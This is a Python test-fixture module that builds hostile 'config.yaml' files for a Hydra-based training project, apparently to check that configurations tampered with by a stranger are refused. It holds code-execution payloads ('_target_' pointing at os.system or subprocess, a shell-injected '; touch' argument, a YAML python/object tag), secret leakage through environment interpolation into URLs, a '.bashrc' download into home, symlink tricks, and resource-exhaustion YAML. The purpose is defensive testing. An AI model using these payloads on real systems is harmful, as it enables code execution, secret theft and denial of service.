"""Configurations of runs that a stranger has changed."""

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import yaml

from attempts import Change
from watch import VARIABLE, Watch


def options(run: Path) -> dict[str, Any]:
    """The options of a run."""
    return yaml.safe_load((run / "config.yaml").read_text())


def write(run: Path, changed: dict[str, Any]) -> None:
    """Put other options in place of a run's."""
    (run / "config.yaml").write_text(yaml.safe_dump(changed))


def with_options(make: Callable[[Watch], dict[str, Any]]) -> Change:
    """A change of options, by dotted name."""

    def change(run: Path, watch: Watch) -> None:
        changed = options(run)
        for name, value in make(watch).items():
            *groups, last = name.split(".")
            node = changed
            for group in groups:
                node = node.setdefault(group, {})
            node[last] = value
        write(run, changed)

    return change


def with_text(more: str | bytes) -> Change:
    """More text after the options."""

    def change(run: Path, watch: Watch) -> None:
        with (run / "config.yaml").open("ab") as file:
            file.write(more if isinstance(more, bytes) else more.encode())

    return change


def touch(watch: Watch) -> dict[str, Any]:
    """A node that would make a file."""
    return {"_target_": "pathlib.Path.touch", "self": {"_target_": "pathlib.Path", "_args_": [str(watch.canary)]}}


def _link(name: str) -> Change:
    def change(run: Path, watch: Watch) -> None:
        (run / name).unlink(missing_ok=True)
        (run / name).symlink_to(watch.profile)

    return change


def _pipe(name: str) -> Change:
    def change(run: Path, watch: Watch) -> None:
        (run / name).unlink(missing_ok=True)
        os.mkfifo(run / name)

    return change


def _endless(run: Path, watch: Watch) -> None:
    (run / "config.yaml").unlink()
    (run / "config.yaml").symlink_to("/dev/zero")


def _huge(run: Path, watch: Watch) -> None:
    with (run / "config.yaml").open("ab") as file:
        file.truncate(2**40)


def _elsewhere(**more: Any) -> Callable[[Watch], dict[str, Any]]:
    """A published dataset that would be fetched from the stranger's server into the home folder."""
    published = {
        "_target_": "rlmrec.data.PublishedDataset",
        "name": "yelp",
        "root": None,
        "sha256": "3dc1d1e1c1f1cbcb5b7a1a3ef5f0ecfe3b7d1ed2ac0d3e1b3d6d0b3bb0f30e5b",
    }
    return lambda watch: {"dataset": published | {"url": f"{watch.url}/.bashrc", "cache": str(watch.home)} | more}


def _callback(target: str, **more: Any) -> Change:
    return with_options(lambda watch: {"callbacks.other": {"_target_": target, **more}})


HERE = __name__
EXECUTING: dict[str, Change] = {
    "shell by provenance": with_options(
        lambda watch: {"dataset": {"_target_": "rlmrec.runs.provenance._git", "_args_": [f"; touch {watch.canary}"]}}
    ),
    "os.system": with_options(lambda watch: {"dataset": {"_target_": "os.system", "command": f"touch {watch.canary}"}}),
    "nested calls": with_options(lambda watch: {"optimizer": touch(watch)}),
    "call in a list": with_options(
        lambda watch: {"trainer.callbacks": [[touch(watch)]], "evaluation.ks": [touch(watch)]}
    ),
    "walk through a module of ours": with_options(
        lambda watch: {
            "dataset": {"_target_": "rlmrec.runs.provenance.subprocess.run", "args": ["touch", str(watch.canary)]}
        }
    ),
    "walk through a library": with_options(
        lambda watch: {"optimizer": {"_target_": "torch.optim.optimizer.torch.os.system", "command": "x"}}
    ),
    "text taken for code": with_options(
        lambda watch: {
            "backbone": {
                "_target_": "torch_geometric.nn.Sequential",
                "input_args": f"x: open({str(watch.canary)!r}, 'w')",
                "modules": [],
            }
        }
    ),
    "text taken for code, by another name": with_options(
        lambda watch: {
            "backbone": {
                "_target_": "torch_geometric.nn.sequential.Sequential",
                "_partial_": True,
                "input_args": f"x: open({str(watch.canary)!r}, 'w')",
            }
        }
    ),
    "function of a library": with_options(
        lambda watch: {
            "backbone": {"_target_": "torch_geometric.nn.sequential.eval_type", "value": "1", "_globals": {}}
        }
    ),
    "positional arguments": with_options(
        lambda watch: {"dataset": {"_target_": "rlmrec.data.FolderDataset", "_args_": ["x"]}}
    ),
    "partial of what no run makes later": with_options(
        lambda watch: {"dataset": {"_target_": "rlmrec.data.FolderDataset", "_partial_": True, "root": "x"}}
    ),
    "other keys of Hydra's": with_options(lambda watch: {"align._recursive_": False, "align._convert_": "object"}),
    "target that is a list": with_options(lambda watch: {"dataset": {"_target_": ["os.system"], "command": "x"}}),
    "keys of Hydra's without a target": with_options(
        lambda watch: {"evaluation": {"_partial_": True, "mask": "train"}}
    ),
    "trust in the file itself": with_options(
        lambda watch: {"trust": ["foreign_configs"], "dataset": {"_target_": f"{HERE}.mark", "file": str(watch.canary)}}
    ),
    "type of YAML's": with_text("other: !!python/object/apply:os.system ['true']\n"),
}
"""Would execute something."""
REACHING: dict[str, Change] = {
    "secret in an address": with_text(f"more: {{url: 'http://127.0.0.1/${{oc.env:{VARIABLE}}}'}}\n"),
    "secret in a monitor": with_options(lambda watch: {"evaluation.monitor": f"${{oc.env:{VARIABLE}}}"}),
    "secret in a key": with_options(lambda watch: {f"names.${{oc.env:{VARIABLE}}}": 1}),
    "secret behind an escape": with_text(f'more: "\\x24{{oc.env:{VARIABLE}}}"\n'),
    "download over a file at home": with_options(_elsewhere()),
    "address with an upper-case scheme": with_options(_elsewhere(url="HTTP://127.0.0.1:9/data.zip")),
    "tracking server": with_options(
        lambda watch: {
            "logger.other": {"_target_": "pytorch_lightning.loggers.MLFlowLogger", "tracking_uri": watch.url}
        }
    ),
    "tracking server of a logger that is made later": with_options(
        lambda watch: {
            "logger.other": {
                "_target_": "pytorch_lightning.loggers.MLFlowLogger",
                "_partial_": True,
                "tracking_uri": watch.url,
            }
        }
    ),
    "logger at home": with_options(
        lambda watch: {
            "logger.other": {
                "_target_": "pytorch_lightning.loggers.CSVLogger",
                "_partial_": True,
                "save_dir": str(watch.home),
            }
        }
    ),
    "logger whose name leads home": lambda run, watch: write(
        run,
        options(run)
        | {"logger": {str(watch.home): {"_target_": "pytorch_lightning.loggers.CSVLogger", "_partial_": True}}},
    ),
    "checkpoints at home": with_options(
        lambda watch: {
            "callbacks.other": {"_target_": "pytorch_lightning.callbacks.ModelCheckpoint", "dirpath": str(watch.home)}
        }
    ),
    "checkpoints above the run": _callback("pytorch_lightning.callbacks.ModelCheckpoint", filename="../../../x"),
    "checkpoints below the current folder": _callback("pytorch_lightning.callbacks.ModelCheckpoint", dirpath="src"),
    "profile at home": with_options(
        lambda watch: {
            "trainer.profiler": {
                "_target_": "pytorch_lightning.profilers.SimpleProfiler",
                "dirpath": str(watch.home),
                "filename": "x",
            }
        }
    ),
    "link in place of the configuration": _link("config.yaml"),
    "link in place of the log": _link("train.log"),
    "link in place of the lock": _link(".lock"),
    "link in place of the history": _link("metrics.csv"),
}
"""Would read, write or fetch something elsewhere."""
STOPPING: dict[str, Change] = {
    "aliases": with_text("a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n"),
    "aliases of itself": with_text("a: &a [*a]\n"),
    "a million brackets": with_text("a: " + "[" * 1_000_000),
    "a hundred thousand levels by indentation": with_text("a:\n" + "".join(f"{' ' * i}b:\n" for i in range(1, 600))),
    "many parts": with_text(f"a: [{'1,' * 60_000}]\n"),
    "number in base sixty": with_text(f"a: 1{':59' * 60_000}\n"),
    "number of many digits": with_text(f"seed: {'9' * 4000}\n".replace("seed", "more")),
    "hexadecimal number": with_text(f"more: 0x{'f' * 5000}\n"),
    "a terabyte of nothing": _huge,
    "endless": _endless,
    "pipe in place of the configuration": _pipe("config.yaml"),
    "pipe in place of the log": _pipe("train.log"),
    "more memory than there is": with_options(lambda watch: {"backbone.embedding_dim": 10**12}),
    "rankings longer than the memory": with_options(lambda watch: {"evaluation.ks": [5, 20, 10**11]}),
    "more layers than time": with_options(lambda watch: {"backbone.num_layers": 10**12}),
}
"""Would stop the process, or never end."""
MISSHAPEN: dict[str, Change] = {
    "no text": with_text(b"\xff\xfe\x00"),
    "terminal commands": with_text('more: "\\e]0;title\\a\\e[2J"\n'),
    "day": with_text("more: !!timestamp 2020-01-01\n"),
    "merge": with_text("more: &m {a: 1}\nmost: {<<: *m}\n"),
    "the same twice": with_text("seed: 1\n"),
    "two documents": with_text("---\nseed: 1\n"),
    "list": lambda run, watch: write(run, [1, 2]),  # type: ignore[arg-type]
    "nothing": lambda run, watch: (run / "config.yaml").write_text("") and None,
    "names that are a number": with_options(lambda watch: {"names": 3}),
    "groups that are missing": lambda run, watch: write(run, {"backbone": {}, "dataset": 3}),
    "argument that no constructor takes": with_options(lambda watch: {"backbone.other": 1, "dataset.other": 1}),
    "object for a number": with_options(
        lambda watch: {"backbone.embedding_dim": {"_target_": "torch.optim.Adam", "_partial_": True}}
    ),
    "object of another kind": with_options(
        lambda watch: {"dataset": {"_target_": "rlmrec.evaluation.EvaluationProtocol"}}
    ),
    "backbone that is an optimizer": with_options(
        lambda watch: {"backbone": {"_target_": "torch.optim.Adam", "_partial_": True}}
    ),
    "keys that are no text": lambda run, watch: write(
        run, options(run) | {"align": {"_target_": "rlmrec.aligners.NoAlignment", 1: 2}}
    ),
}
"""Are no configurations of a run."""


def mark(file: str) -> None:
    """What a stranger's package would do."""
    Path(file).touch()
